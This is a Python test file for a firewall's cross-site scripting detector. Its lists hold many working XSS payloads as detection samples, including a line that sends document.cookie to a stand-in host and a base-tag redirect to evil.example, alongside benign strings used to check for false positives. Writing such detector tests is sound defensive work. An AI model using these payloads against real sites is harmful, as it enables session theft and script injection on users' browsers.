from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgeguard.waf.detectors.finding import READ
from edgeguard.waf.detectors.script import detect_script

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><ScRiPt src=//x.example></ScRiPt>',
    "<script>",
    "<svg:script>alert(1)",
    "<iframe srcdoc='<p>'>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<x/onpointerenter=alert`1`>",
    '" onfocus=alert(1) autofocus x="',
    "' autofocus onfocus='alert(1)",
    "<details open ontoggle=alert(1)>",
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<a href=javascript:alert(1)>",
    "<animate xlink:href=#x values=javascript:alert(1) />",
    "'-alert(1)-'",
    "';alert(1)//",
    '"-alert(1)-"',
    "${alert(1)}",
    "</script><script>alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    'x"};eval(name)//',
    "'+window['alert'](1)+'",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)>",
    '<a href="javas&#99;ript:alert(1)">x</a>',
    "<xss onbeforehellfreezes=aler%77(1)>",
    '<img src="x"onerror=alert(1)>',
    "<img/src='x'/onerror='alert(1)'",
    '<p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<div style="width:expr/**/ession(alert(1))">',
    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
    "<form><button formaction=javascript:alert(1)>x",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<link rel=import href=//x>",
    "';document.location='//x/'+document.cookie;'",
    "onmouseover=alert(1)",
    "\\';alert(1)//",
    "vbscript:msgbox(1)",
    '<video><source onerror="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<img src="]><img src=x onerror=alert(1)//">',
    "<p style='a:b;c:ex/*x*//*/*/pression(alert(1))'>",
    "<a style=\"-o-link:'javascript:alert(1)'\">",
    "'};new Function(name)()//",
    "${(alert)(1)}",
    "<object><param name=url value=javascript:alert(1)>",
]

HARMLESS = [
    "a < b and c > d",
    "x<y",
    "<b>bold</b>",
    '<a href="https://x.example/?a=1&b=2">link</a>',
    "List<String>",
    "Map<String, List<Integer>> m = new HashMap<>();",
    "<a@b.c>",
    "on = 5",
    "onboarding=1",
    "once=true",
    "it's alert (now)",
    "'fire alert (2024)'",
    '"import" and (export)',
    "javascript: the good parts",
    "JavaScript: an introduction",
    "JavaScript: arrays (part 2)",
    "data:image/png;base64,iVBORw0KGgo=",
    "3 < 4 once = true",
    "'one' = 'eins'",
    "onsale=1",
    "document location in Oslo",
    "window cleaning",
    "{{ user.name }}",
    "${user.name}",
    "`npm install`",
    "a { color: red; }",
    '<p style="color:red">x</p>',
    "<img src='/a.png' alt='a'>",
    "O'Brien (alert)",
    "print('a' + foo('b'))",
    "if (a < b && c > d) return",
    '{"a":"b","c":"alert(1)"}',
    '<a href="javascript:void(0)">',
    "<p><a href='/javascript'>JavaScript: a course</a></p>",
    "Use `<code>` and <em>.",
    'x = "a"; onload = 5',
    "the 'on' and \"off\" switch = good",
    "{{count(items)}}",
    "foo('a', alert)",
    "console.log('x', fetch)",
    "$('#a').on('click', function() { alert(1); });",
    "their own <iframe> tag",
    "DROP <object> required",
    "<style>p { color: red }</style>",
    "<meta charset=utf-8>",
    "<noscript>x</noscript>",
]


@pytest.mark.parametrize("value", SCRIPTS)
def test_scripts_are_certain(value: str) -> None:
    found = detect_script(value.encode())
    assert found is not None
    assert found.confidence == "high"
    start, end = found.span
    assert 0 <= start < end <= len(value.encode())


@pytest.mark.parametrize("value", HARMLESS)
def test_markup_code_and_prose_are_not_script(value: str) -> None:
    assert detect_script(value.encode()) is None


@pytest.mark.parametrize(
    ("value", "context"),
    [
        ("<img src=x onerror=alert(1)>", "text"),
        ('" onfocus=alert(1) x="', "double"),
        ("' onfocus=alert(1) x='", "single"),
        ("x onfocus=alert(1)", "unquoted"),
        ("javascript:alert(1)", "url"),
        ("'-alert(1)-'", "script single"),
        ('"-alert(1)-"', "script double"),
        ("${alert(1)}", "template"),
        ("width:expression(alert(1))", "style"),
    ],
)
def test_each_place_where_a_value_can_stand(value: str, context: str) -> None:
    found = detect_script(value.encode())
    assert found is not None
    assert found.context == context


@pytest.mark.parametrize(
    "value",
    [
        "1 <script> tag explained",
        "<Button onClick={() => go(1)}>x</Button>",
        "<script> explained",
        "</script>",
        "';(alert)(1)//",
        "The <script> element runs code; so beware (of it)",
    ],
)
def test_what_is_written_about_scripts_is_medium(value: str) -> None:
    found = detect_script(value.encode())
    assert found is not None
    assert found.confidence == "medium"


@pytest.mark.parametrize(
    ("value", "fingerprint"),
    [
        ("<x onabc=1>", "handler"),
        ("<img \x0bonerror=alert(1)>", "handler"),
        ("<img src=`x`onerror=alert(1)>", "handler"),
        ("<style>@import 'x'</style>", "style"),
        ("<?import implementation=x>", "import"),
        ("<meta charset=utf-7>", "meta"),
        ("<meta http-equiv=link content='<x>; rel=stylesheet'>", "meta"),
        ("<span datasrc=#x>", "data"),
    ],
)
def test_what_only_old_browsers_run_is_faint(value: str, fingerprint: str) -> None:
    found = detect_script(value.encode())
    assert found is not None
    assert (found.confidence, found.fingerprint) == ("faint", fingerprint)


def test_harmless_tags_in_front_hide_nothing() -> None:
    for attack in (b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b"<a href=javascript:alert(1)>x</a>"):
        found = detect_script(b"<b>x</b>" * 1000 + attack)
        assert found is not None
        assert found.confidence == "high"


def test_a_detector_reads_no_further_than_its_bound() -> None:
    assert detect_script(b" " * READ + b"<script>alert(1)</script>") is None


_PIECES = [
    "<",
    "</",
    "<!--",
    "-->",
    ">",
    " ",
    "\t",
    "\0",
    "=",
    "'",
    '"',
    "`",
    "(",
    ")",
    "script",
    "img",
    "iframe",
    "src",
    "onload",
    "on",
]
_PIECES += [
    "style",
    "alert(1)",
    "javascript:",
    "&#106;",
    "&colon;",
    "data:text/html,",
    "expression(1)",
    "{{",
    "}}",
    "${",
    "}",
    "x",
    "-",
    ";",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_case_changes_nothing(value: str) -> None:
    if "&" not in value:  # names of references are told apart by case
        assert detect_script(value.encode()) == detect_script(value.upper().encode())


@given(st.binary(max_size=400))
def test_any_bytes_are_read(value: bytes) -> None:
    found = detect_script(value)
    assert found is None or (0 <= found.span[0] < found.span[1] <= len(value) and len(found.fingerprint) <= 64)
